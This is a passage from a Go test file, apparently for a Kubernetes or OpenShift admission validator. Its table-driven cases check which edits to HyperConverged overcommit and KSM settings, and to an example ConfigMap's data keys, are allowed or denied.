		{"memoryOvercommitPercentage above the options' range", request{op: admission.Update, gvr: hyperConvergeds("v1beta1"), old: hcoObj, obj: edited(hcoObj, func(o map[string]interface{}) {
			set(o, int64(1000), "spec", "higherWorkloadDensity", "memoryOvercommitPercentage")
		})}, ""},
		{"memoryOvercommitPercentage below it (v1)", request{op: admission.Update, gvr: hyperConvergeds("v1"), old: hcoV1, obj: edited(hcoV1, func(o map[string]interface{}) {
			set(o, int64(50), "spec", "virtualization", "higherWorkloadDensity", "memoryOvercommitPercentage")
		})}, ""},
		{"ksmConfiguration with more than a node selector", request{op: admission.Update, gvr: hyperConvergeds("v1beta1"), old: hcoObj, obj: edited(hcoObj, func(o map[string]interface{}) {
			set(o, map[string]interface{}{"nodeLabelSelector": map[string]interface{}{}, "pagesToScan": int64(100000)}, "spec", "ksmConfiguration")
		})}, "sets ksmConfiguration of the HyperConverged to a nodeLabelSelector (matchLabels, matchExpressions) only"},
		{"a node selector with more than a selector", request{op: admission.Update, gvr: hyperConvergeds("v1"), old: hcoV1, obj: edited(hcoV1, func(o map[string]interface{}) {
			set(o, map[string]interface{}{"nodeLabelSelector": map[string]interface{}{"matchFields": map[string]interface{}{}}}, "spec", "virtualization", "ksmConfiguration")
		})}, "sets ksmConfiguration of the HyperConverged to a nodeLabelSelector"},

		// The ConfigMap: the keys of example-profile's data, any value.
		{"other data in the example ConfigMap", request{op: admission.Update, gvr: configMaps, old: cm, obj: edited(cm, func(o map[string]interface{}) {
			set(o, "evil", "data", "example-key")
		})}, ""},
		{"another key in the example ConfigMap", request{op: admission.Create, gvr: configMaps, obj: changed(cm, func(o map[string]interface{}) {
			set(o, "x", "data", "other")
		})}, "changes in the data of ConfigMap openshift-cnv/example-config only example-key"},
		{"an administrator's key removed", request{op: admission.Update, gvr: configMaps, old: theirCM, obj: edited(theirCM, func(o map[string]interface{}) {
			unstructured.RemoveNestedField(o, "data", "other")
		})}, "changes in the data of ConfigMap openshift-cnv/example-config only example-key"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := review(t, v, tc.r)
			switch {
			case tc.want == "" && got != "":
				t.Errorf("denied: %s", got)
			case tc.want != "" && !strings.Contains(got, tc.want):
				t.Errorf("denial %q\nwant one containing %q", got, tc.want)
			}
		})
	}
}
